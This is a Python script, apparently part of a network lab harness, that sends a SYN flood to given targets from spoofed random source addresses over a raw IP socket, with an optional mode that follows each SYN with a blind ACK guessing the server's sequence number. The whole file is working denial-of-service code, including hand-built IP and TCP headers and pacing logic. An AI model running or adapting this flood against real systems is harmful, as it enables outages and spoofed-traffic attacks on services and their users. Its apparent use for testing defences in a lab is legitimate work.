#!/usr/bin/env python3
"""A SYN flood from spoofed sources, bounded in count and time: COUNT TCP SYNs, spread evenly
over SECONDS, round-robin over the targets, each from a random address in SPOOF_NET/16 and a
random port (an IP raw socket: the kernel routes them and fills in nothing else). With
--blind-ack each SYN is followed by an ACK from the same source and port that acknowledges a
guessed sequence number: a client that never saw the SYN-ACK completing the handshake blind.
Prints "flood: started", then "flood: sent N in T s" (N SYNs, or SYN and ACK pairs).

Usage: syn_flood.py [--blind-ack] COUNT SECONDS SPOOF_NET VIP:PORT [VIP:PORT ...]"""
import random
import socket
import struct
import sys
import time

from labnet import checksum

args = sys.argv[1:]
blind_ack = args[:1] == ["--blind-ack"]
if blind_ack:
    args = args[1:]
count, seconds, spoof_net = int(args[0]), float(args[1]), args[2]
targets = [(socket.inet_aton(t.split(":")[0]), int(t.split(":")[1])) for t in args[3:]]
rng = random.Random(20261130)
base = struct.unpack("!I", socket.inet_aton(spoof_net))[0] & 0xFFFF0000
sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)


def segment(src, dst, sport, dport, seq, ack, flags):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 64240, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), rng.getrandbits(16), 0, 64, socket.IPPROTO_TCP, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


print("flood: started", flush=True)
t0 = time.time()
sent = 0
for i in range(count):
    # Pace: packet i leaves no earlier than its share of SECONDS (bounded in time either way).
    due = t0 + seconds * i / count
    now = time.time()
    if now < due:
        time.sleep(due - now)
    if now > t0 + seconds * 3:
        break
    dst, dport = targets[i % len(targets)]
    src = struct.pack("!I", base | rng.randrange(1, 0xFFFF))
    sport, seq = rng.randrange(1024, 65535), rng.getrandbits(32)
    try:
        sock.sendto(segment(src, dst, sport, dport, seq, 0, 0x02), (socket.inet_ntoa(dst), 0))
        if blind_ack:
            guess = rng.getrandbits(32)
            sock.sendto(segment(src, dst, sport, dport, seq + 1 & 0xFFFFFFFF, guess, 0x10), (socket.inet_ntoa(dst), 0))
        sent += 1
    except OSError:
        pass
print(f"flood: sent {sent} in {time.time() - t0:.2f} s", flush=True)
